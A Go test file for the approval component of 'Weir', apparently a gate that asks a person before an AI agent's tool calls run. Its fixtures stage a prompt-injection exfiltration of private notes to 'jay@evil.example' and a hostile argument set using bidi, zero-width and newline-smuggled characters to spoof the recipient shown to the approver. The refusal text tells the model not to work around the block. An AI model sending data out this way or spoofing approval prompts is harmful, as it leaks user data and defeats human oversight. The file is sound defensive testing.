package approval

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"
)

var update = flag.Bool("update", false, "rewrite testdata/messages.golden")

// goldenAsks are the questions the golden file shows: facts read by Facts
// from the arguments of real tools.
func goldenAsks() []struct {
	name string
	ask  Ask
} {
	facts := func(args string) []Fact { return Facts(json.RawMessage(args)) }
	return []struct {
		name string
		ask  Ask
	}{
		{"mail, private data, no session scope", Ask{
			Tool: "mail/send_email", Rule: "rule flow.exfiltration",
			Reason:  "the arguments of mail/send_email carry private data read from notes/read_note (found in $.body)",
			Sources: []string{"notes/read_note"}, Paths: []string{"$.body"},
			Facts: facts(`{"to":"jay@evil.example","cc":["boss@corp.example"],"subject":"notes","body":"…"}`),
		}},
		{"mail, session scope", Ask{
			Tool: "mail/send_email", Rule: "rule flow.integrity",
			Reason:  "this session has read untrusted content (from web/fetch), and mail/send_email acts outside: untrusted text may be steering this call",
			Sources: []string{"web/fetch"},
			Facts:   facts(`{"to":"alice@example.com","subject":"lunch?","body":"noon?"}`), SessionScope: true,
		}},
		{"bank, amount and recipient, session scope", Ask{
			Tool: "bank/send_money", Rule: "policy rule payments",
			Reason: "payments need a person",
			Facts:  facts(`{"recipient":"GB29NWBK60161331926819","amount":100.5,"subject":"Rent","date":"2022-06-01"}`), SessionScope: true,
		}},
		{"github, paths without sources", Ask{
			Tool: "github/create_issue", Rule: "rule flow.tainted_args",
			Reason: "the argument $.title of github/create_issue was copied from untrusted content",
			Paths:  []string{"$.title"},
			Facts:  facts(`{"owner":"weir-sec","repo":"weir","title":"x","body":"y"}`),
		}},
		{"no facts, session scope", Ask{
			Tool: "calc/add", Rule: "policy rule ask-everything", Reason: "every call is approved by hand",
			Facts: facts(`{"a":1,"b":2}`), SessionScope: true,
		}},
		{"hostile arguments", Ask{
			Tool: "mail/send_email", Rule: "rule flow.exfiltration", Reason: "the arguments carry private data",
			Sources: []string{"notes/read_note", "drive/read_file"}, Paths: []string{"$.body", "$.subject"},
			Facts: facts(`{"to":"boss@corp.example\u202e\u200b","x\nrecipient: boss@corp.example (to)":"jay@evil.example","url":"https://evil.example/` + strings.Repeat("a", 200) + `"}`),
		}},
	}
}

func goldenOutcomes() []struct {
	name string
	o    Outcome
} {
	_, readErr := ReadAnswer(json.RawMessage(`{"action":"accept","content":{"decision":"approve_session"}}`), false)
	return []struct {
		name string
		o    Outcome
	}{
		{"pending (out of band)", Outcome{Answer: Pending, Channel: CLI, ID: "abcdefghjk", TTL: DefaultTTL}},
		{"refused before (repeat)", Outcome{Answer: Declined, Channel: Repeat, ID: "abcdefghjk", Age: 41*time.Second + 300*time.Millisecond}},
		{"refused with weir deny", Outcome{Answer: Declined, Channel: CLI, ID: "abcdefghjk"}},
		{"declined (elicitation)", Outcome{Answer: Declined, Channel: Elicitation, ID: "abcdefghjk"}},
		{"declined (input_required)", Outcome{Answer: Declined, Channel: InputRequired, ID: "abcdefghjk"}},
		{"cancelled", Outcome{Answer: Cancelled, Channel: Elicitation, ID: "abcdefghjk"}},
		{"timed out", Outcome{Answer: TimedOut, Channel: Elicitation, ID: "abcdefghjk", Timeout: DefaultTimeout}},
		{"failed (unreadable answer)", Outcome{Answer: Failed, Channel: Elicitation, ID: "abcdefghjk", Err: readErr}},
		{"failed (store)", Outcome{Answer: Failed, Err: errors.New("Weir's state store failed: database is locked")}},
		{"client gone", Outcome{Answer: Gone, Channel: Elicitation, ID: "abcdefghjk", Err: errors.New("the client disconnected")}},
	}
}

// TestMessagesGolden keeps what a person and the model read about an
// escalation in testdata/messages.golden: every question (message, form,
// elicitation params) and every refusal. A change to it is a reviewed
// change.
func TestMessagesGolden(t *testing.T) {
	var b bytes.Buffer
	for _, c := range goldenAsks() {
		var schema bytes.Buffer
		if err := json.Indent(&schema, Schema(c.ask), "", "  "); err != nil {
			t.Fatalf("%s: the schema is not JSON: %v", c.name, err)
		}
		fmt.Fprintf(&b, "== ask: %s\n-- message\n%s\n-- schema\n%s\n-- elicitation/create params (2025-06-18)\n%s\n-- elicitation/create params (2025-11-25)\n%s\n\n",
			c.name, Message(c.ask), schema.String(), ElicitParams(c.ask, false), ElicitParams(c.ask, true))
	}
	const head = "Weir stopped this call to mail/send_email (rule flow.integrity): this session has read untrusted content (from web/fetch), and mail/send_email acts outside: untrusted text may be steering this call."
	for _, c := range goldenOutcomes() {
		fmt.Fprintf(&b, "== refusal: %s\n%s\n\n", c.name, RefusalMessage(head, c.o))
	}
	const file = "testdata/messages.golden"
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, b.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(b.Bytes(), want) {
		t.Errorf("messages differ from %s (run with -update after review):\n%s", file, b.String())
	}
	for _, r := range []rune{'\u202e', '\u200b', '\x1b'} {
		if strings.ContainsRune(b.String(), r) {
			t.Errorf("a message shows %U raw", r)
		}
	}
	if strings.Contains(b.String(), "\nrecipient: boss@corp.example (to)") {
		t.Error("a member name draws a line of its own in a message")
	}
}

func TestMessage(t *testing.T) {
	a := goldenAsks()[0].ask
	m := Message(a)
	for _, want := range []string{"Weir: allow mail/send_email?\n", "recipient: jay@evil.example (to)\n", "recipient: boss@corp.example (cc[0])\n",
		"Why Weir asks (rule flow.exfiltration): ", "Data from: notes/read_note; in the arguments $.body.\n", "Allow it only if you asked the agent to do this."} {
		if !strings.Contains(m, want) {
			t.Errorf("the message lacks %q:\n%s", want, m)
		}
	}
	if m := Message(Ask{Tool: "calc/add", Rule: "r", Reason: "x"}); !strings.Contains(m, "name no recipient, host, path or amount") {
		t.Errorf("a call with no facts does not say so:\n%s", m)
	}
	if m := Message(Ask{Tool: "t/t", Rule: "r", Reason: "x", Paths: []string{"$.a"}}); strings.Contains(m, "$.a") {
		t.Errorf("paths are shown without sources:\n%s", m)
	}
}

// schemaOf decodes a Schema for inspection.
type schemaDoc struct {
	Type       string   `json:"type"`
	Required   []string `json:"required"`
	Properties map[string]struct {
		Type  string `json:"type"`
		Title string `json:"title"`
		OneOf []struct {
			Const string `json:"const"`
			Title string `json:"title"`
		} `json:"oneOf"`
	} `json:"properties"`
}

func TestSchema(t *testing.T) {
	for _, c := range goldenAsks() {
		raw := Schema(c.ask)
		var s schemaDoc
		dec := json.NewDecoder(bytes.NewReader(raw))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&s); err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		if s.Type != "object" || !slices.Equal(s.Required, []string{Field}) || len(s.Properties) != 1 {
			t.Fatalf("%s: schema %s is not one required field", c.name, raw)
		}
		p := s.Properties[Field]
		if p.Type != "string" || p.Title == "" {
			t.Fatalf("%s: the field is %+v", c.name, p)
		}
		var consts []string
		for _, o := range p.OneOf {
			if o.Const == "" || o.Title == "" {
				t.Errorf("%s: choice %+v lacks a const or title", c.name, o)
			}
			consts = append(consts, o.Const)
		}
		want := []string{ChoiceApprove, ChoiceDeny}
		if c.ask.SessionScope {
			want = []string{ChoiceApprove, ChoiceApproveSession, ChoiceDeny}
		}
		if !slices.Equal(consts, want) {
			t.Errorf("%s: choices %q, want %q", c.name, consts, want)
		}
		if c.ask.SessionScope {
			title := p.OneOf[1].Title
			if !strings.Contains(title, c.ask.Tool) {
				t.Errorf("%s: the session choice %q does not name the tool", c.name, title)
			}
			for _, f := range c.ask.Facts {
				if shown := strings.Contains(title, f.Value); shown != (f.dest != "") {
					t.Errorf("%s: the session choice %q shows %q: %v, want %v", c.name, title, f.Value, shown, f.dest != "")
				}
			}
		}
	}
}

func TestElicitParams(t *testing.T) {
	for _, c := range goldenAsks() {
		for _, named := range []bool{false, true} {
			var p map[string]json.RawMessage
			if err := json.Unmarshal(ElicitParams(c.ask, named), &p); err != nil {
				t.Fatal(err)
			}
			var msg, mode string
			_ = json.Unmarshal(p["message"], &msg)
			_ = json.Unmarshal(p["mode"], &mode)
			if msg != Message(c.ask) || string(p["requestedSchema"]) != string(Schema(c.ask)) {
				t.Errorf("%s: the params do not carry the message and schema", c.name)
			}
			_, hasMode := p["mode"]
			if named && mode != "form" || !named && hasMode {
				t.Errorf("%s: named mode %v, mode %s", c.name, named, p["mode"])
			}
			if len(p) != 2+btoi(named) {
				t.Errorf("%s: params have members %v", c.name, keys(p))
			}
		}
	}
}

func btoi(b bool) int {
	if b {
		return 1
	}
	return 0
}

func keys(m map[string]json.RawMessage) []string {
	var k []string
	for n := range m {
		k = append(k, n)
	}
	slices.Sort(k)
	return k
}

func TestReadAnswer(t *testing.T) {
	const (
		approve = `{"action":"accept","content":{"decision":"approve"}}`
		session = `{"action":"accept","content":{"decision":"approve_session"}}`
		deny    = `{"action":"accept","content":{"decision":"deny"}}`
	)
	cases := []struct {
		name   string
		result string
		scope  bool
		want   Answer
	}{
		{"approve", approve, false, Approved},
		{"approve, session offered", approve, true, Approved},
		{"approve for the session, offered", session, true, ApprovedSession},
		{"approve for the session, not offered", session, false, Failed},
		{"deny", deny, true, Declined},
		{"decline", `{"action":"decline"}`, true, Declined},
		{"decline with an approving content", `{"action":"decline","content":{"decision":"approve"}}`, true, Declined},
		{"cancel", `{"action":"cancel"}`, true, Cancelled},
		{"cancel with an approving content", `{"action":"cancel","content":{"decision":"approve_session"}}`, true, Cancelled},
		{"spaces and escapes", " {\n \"\\u0061ction\" : \"acc\\u0065pt\" , \"content\" : { \"decision\" : \"appro\\u0076e\" } }\n", false, Approved},
		{"other members", `{"_meta":{"x":1},"action":"accept","content":{"decision":"approve","note":"ok"}}`, false, Approved},
		{"accept without content", `{"action":"accept"}`, true, Failed},
		{"accept, content null", `{"action":"accept","content":null}`, true, Failed},
		{"accept, content empty", `{"action":"accept","content":{}}`, true, Failed},
		{"accept, content a string", `{"action":"accept","content":"approve"}`, true, Failed},
		{"accept, content an array", `{"action":"accept","content":[{"decision":"approve"}]}`, true, Failed},
		{"accept, decision not a string", `{"action":"accept","content":{"decision":true}}`, true, Failed},
		{"accept, decision an array", `{"action":"accept","content":{"decision":["approve"]}}`, true, Failed},
		{"accept, unknown decision", `{"action":"accept","content":{"decision":"yes"}}`, true, Failed},
		{"accept, decision in another case", `{"action":"accept","content":{"decision":"Approve"}}`, true, Failed},
		{"accept, decision with a space", `{"action":"accept","content":{"decision":"approve "}}`, true, Failed},
		{"accept, decision under another name", `{"action":"accept","content":{"choice":"approve"}}`, true, Failed},
		{"no action", `{"content":{"decision":"approve"}}`, true, Failed},
		{"action in another case", `{"action":"ACCEPT","content":{"decision":"approve"}}`, true, Failed},
		{"action not a string", `{"action":1,"content":{"decision":"approve"}}`, true, Failed},
		{"member Action", `{"Action":"accept","content":{"decision":"approve"}}`, true, Failed},
		{"members action and Action", `{"action":"accept","Action":"decline","content":{"decision":"approve"}}`, true, Failed},
		{"member Content", `{"action":"accept","Content":{"decision":"approve"}}`, true, Failed},
		{"member Decision", `{"action":"accept","content":{"Decision":"approve"}}`, true, Failed},
		{"members decision and DECISION", `{"action":"accept","content":{"decision":"approve","DECISION":"deny"}}`, true, Failed},
		{"repeated action", `{"action":"decline","action":"accept","content":{"decision":"approve"}}`, true, Failed},
		{"repeated content", `{"action":"accept","content":{"decision":"deny"},"content":{"decision":"approve"}}`, true, Failed},
		{"repeated decision", `{"action":"accept","content":{"decision":"deny","decision":"approve"}}`, true, Failed},
		{"repeated decision, escaped", `{"action":"accept","content":{"decision":"deny","d\u0065cision":"approve"}}`, true, Failed},
		{"empty", ``, true, Failed},
		{"null", `null`, true, Failed},
		{"a string", `"accept"`, true, Failed},
		{"an array", `[` + approve + `]`, true, Failed},
		{"garbage", `approve`, true, Failed},
		{"unterminated", `{"action":"accept","content":{"decision":"approve"}`, true, Failed},
		{"missing comma", `{"action":"accept" "content":{"decision":"approve"}}`, true, Failed},
		{"missing comma inside content", `{"action":"accept","content":{"x":1 "decision":"approve"}}`, true, Failed},
		{"trailing comma", `{"action":"accept","content":{"decision":"approve"},}`, true, Failed},
		{"data after the answer", approve + `garbage`, true, Failed},
		{"two answers", approve + approve, true, Failed},
		{"single quotes", `{'action':'accept','content':{'decision':'approve'}}`, true, Failed},
		{"nested past the depth bound", `{"action":"accept","content":{"decision":"approve"},"x":` + strings.Repeat("[", 1000) + strings.Repeat("]", 1000) + `}`, true, Failed},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, err := ReadAnswer(json.RawMessage(c.result), c.scope)
			if got != c.want {
				t.Fatalf("ReadAnswer(%.80s, %v) = %s (%v), want %s", c.result, c.scope, got, err, c.want)
			}
			if (got == Failed) != (err != nil) {
				t.Fatalf("ReadAnswer = %s with error %v: an error goes with Failed and only with it", got, err)
			}
		})
	}
}

// TestReadAnswerMutations: an approving answer altered at random approves
// only if it still is, read strictly (valid JSON, no repeated or
// case-variant member), an approving answer.
func TestReadAnswerMutations(t *testing.T) {
	seeds := []string{
		`{"action":"accept","content":{"decision":"approve"}}`,
		`{"action":"accept","content":{"decision":"approve_session"}}`,
		`{"content":{"decision":"approve"},"action":"accept"}`,
	}
	alphabet := []byte(`{}[],:" \a\\cdeptvACD0_`)
	rapid.Check(t, func(t *rapid.T) {
		b := []byte(rapid.SampledFrom(seeds).Draw(t, "seed"))
		for i, n := 0, rapid.IntRange(1, 3).Draw(t, "edits"); i < n; i++ {
			p := rapid.IntRange(0, len(b)).Draw(t, "at")
			c := rapid.SampledFrom(alphabet).Draw(t, "byte")
			switch rapid.IntRange(0, 2).Draw(t, "op") {
			case 0: // insert
				b = slices.Insert(b, p, c)
			case 1: // delete
				if p < len(b) {
					b = slices.Delete(b, p, p+1)
				}
			default: // replace
				if p < len(b) {
					b[p] = c
				}
			}
		}
		scope := rapid.Bool().Draw(t, "scope")
		a, err := ReadAnswer(b, scope)
		if (a == Failed) != (err != nil) {
			t.Fatalf("ReadAnswer(%s) = %s, %v", b, a, err)
		}
		if !a.Allows() {
			return
		}
		action, decision, ok := strictAnswer(b)
		if !ok || action != "accept" || !(decision == ChoiceApprove || decision == ChoiceApproveSession && scope) {
			t.Fatalf("ReadAnswer(%s, %v) = %s, but read strictly it is %q/%q (ok %v)", b, scope, a, action, decision, ok)
		}
		if (a == ApprovedSession) != (decision == ChoiceApproveSession) {
			t.Fatalf("ReadAnswer(%s) = %s for the decision %q", b, a, decision)
		}
	})
}

// strictAnswer reads an elicitation result with encoding/json, refusing
// repeated and case-variant members at the two levels it reads.
func strictAnswer(b []byte) (action, decision string, ok bool) {
	if !json.Valid(b) {
		return "", "", false
	}
	strict := func(raw []byte) (map[string]json.RawMessage, bool) {
		dec := json.NewDecoder(bytes.NewReader(raw))
		if tok, err := dec.Token(); err != nil || tok != json.Delim('{') {
			return nil, false
		}
		m := map[string]json.RawMessage{}
		seen := map[string]bool{}
		for dec.More() {
			tok, err := dec.Token()
			if err != nil {
				return nil, false
			}
			k := tok.(string)
			if seen[strings.ToLower(k)] {
				return nil, false
			}
			seen[strings.ToLower(k)] = true
			var v json.RawMessage
			if dec.Decode(&v) != nil {
				return nil, false
			}
			m[k] = v
		}
		return m, true
	}
	top, ok1 := strict(b)
	if !ok1 || json.Unmarshal(top["action"], &action) != nil {
		return "", "", false
	}
	content, ok2 := strict(top["content"])
	if !ok2 || json.Unmarshal(content["decision"], &decision) != nil {
		return "", "", false
	}
	for _, k := range []string{"Action", "Content"} {
		for n := range top {
			if n != strings.ToLower(k) && strings.EqualFold(n, k) {
				return "", "", false
			}
		}
	}
	for n := range content {
		if n != Field && strings.EqualFold(n, Field) {
			return "", "", false
		}
	}
	return action, decision, true
}

func TestRefusalMessage(t *testing.T) {
	const head = "Weir stopped this call to mail/send_email (rule flow.integrity): REASON."
	for _, c := range goldenOutcomes() {
		m := RefusalMessage(head, c.o)
		if !strings.HasPrefix(m, head+" ") {
			t.Errorf("%s: the refusal does not start with the head: %q", c.name, m)
		}
		if !strings.Contains(m, "the call was not made") {
			t.Errorf("%s: the refusal does not say the call was not made: %q", c.name, m)
		}
		if c.o.Answer == Pending {
			for _, want := range []string{"weir approve " + c.o.ID, "weir deny " + c.o.ID, "expires in 10m0s"} {
				if !strings.Contains(m, want) {
					t.Errorf("%s: the refusal lacks %q: %q", c.name, want, m)
				}
			}
			continue
		}
		if !strings.HasSuffix(m, doNotWorkAround+tellUserRefused) {
			t.Errorf("%s: the refusal does not end with the instructions: %q", c.name, m)
		}
		if c.o.Err != nil && !strings.Contains(m, c.o.Err.Error()) && c.o.Answer != Declined {
			t.Errorf("%s: the refusal hides the error %v: %q", c.name, c.o.Err, m)
		}
	}
}

func TestAnswerAllows(t *testing.T) {
	for _, a := range []Answer{Approved, ApprovedSession, Declined, Cancelled, TimedOut, Failed, Gone, Pending, "", "APPROVED"} {
		if got, want := a.Allows(), a == Approved || a == ApprovedSession; got != want {
			t.Errorf("%q.Allows() = %v", a, got)
		}
	}
}
